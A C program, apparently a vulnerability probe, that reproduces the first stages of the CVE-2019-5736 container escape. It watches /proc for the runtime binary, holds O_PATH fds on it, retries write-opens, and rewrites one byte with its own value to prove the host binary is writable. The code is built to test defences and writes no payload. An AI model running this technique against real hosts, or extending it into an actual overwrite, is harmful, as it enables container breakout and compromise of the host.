/* exe_overwrite NEEDLE SECONDS: CVE-2019-5736's first moves, from inside a
 * container. Watch /proc for a process whose executable's name contains
 * NEEDLE (the runtime's binary, seen while the runtime sets up an exec or
 * when a "#!/proc/self/exe" script makes it run itself in the container),
 * keep an O_PATH fd on its /proc/PID/exe, and keep trying to reopen that fd
 * for writing until SECONDS pass: once the runtime has exited its text is no
 * longer busy, and a write-open would reach the host's binary.
 *
 * Nothing is ever written: a successful open for writing (no O_TRUNC) is
 * reported as "write-open=OK" and closed at once. Otherwise it prints how
 * far it got: "found=N" (processes seen running the binary), "held=N" (O_PATH
 * fds obtained), "write-open=ERRNO" (the last refusal). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64

static int held[MAX_HELD], n_held, found, last_err;

static const char *ename(int e)
{
        return e ? (strerrorname_np(e) ? strerrorname_np(e) : "?") : "none";
}

/* An open for writing is not yet an overwrite: a sealed memfd (the
 * runtime's defence) opens but refuses the write. Rewrite the first byte
 * with its own value: harmless, and it succeeds only if the file is writable. */
static void try_write(int w, const char *how)
{
        char rpath[64], c;
        snprintf(rpath, sizeof(rpath), "/proc/self/fd/%d", w);
        int r = open(rpath, O_RDONLY | O_CLOEXEC);
        if (r >= 0 && pread(r, &c, 1, 0) == 1 && pwrite(w, &c, 1, 0) == 1) {
                printf("write=OK (%s)\n", how);
                exit(0);
        }
        last_err = errno;
        printf("write-open=ok but write refused (%s): %s\n", how, strerror(errno));
        if (r >= 0)
                close(r);
        close(w);
}

static void scan(const char *needle, pid_t self)
{
        DIR *d = opendir("/proc");
        if (!d)
                return;
        struct dirent *de;
        while ((de = readdir(d))) {
                pid_t pid = (pid_t) atoi(de->d_name);
                if (pid <= 0 || pid == self)
                        continue;
                char path[64], target[4096];
                snprintf(path, sizeof(path), "/proc/%d/exe", (int) pid);
                ssize_t n = readlink(path, target, sizeof(target) - 1);
                if (n < 0)
                        continue;
                target[n] = '\0';
                /* The runtime's own file, or its sealed copy. */
                if (!strstr(target, needle) && !strstr(target, "memfd:vessel-runtime"))
                        continue;
                found++;
                /* The direct way first: the binary is running, so ETXTBSY is expected. */
                int w = open(path, O_WRONLY | O_CLOEXEC);
                if (w >= 0) {
                        try_write(w, "direct");
                        continue;
                }
                last_err = errno;
                if (n_held < MAX_HELD) {
                        int fd = open(path, O_PATH | O_CLOEXEC);
                        if (fd >= 0)
                                held[n_held++] = fd;
                        else
                                last_err = errno;
                }
        }
        closedir(d);
}

static void try_held(void)
{
        for (int i = 0; i < n_held; i++) {
                char path[64];
                snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
                int w = open(path, O_WRONLY | O_CLOEXEC);
                if (w >= 0) {
                        try_write(w, "through a held O_PATH fd");
                        continue;
                }
                last_err = errno;
        }
}

int main(int argc, char **argv)
{
        if (argc < 3)
                return 2;
        const char *needle = argv[1];
        time_t end = time(NULL) + atoi(argv[2]);
        pid_t self = getpid();
        printf("watching\n");
        fflush(stdout);
        while (time(NULL) < end) {
                scan(needle, self);
                try_held();
        }
        printf("found=%d held=%d write-open=%s\n", found, n_held, ename(last_err));
        return 0;
}
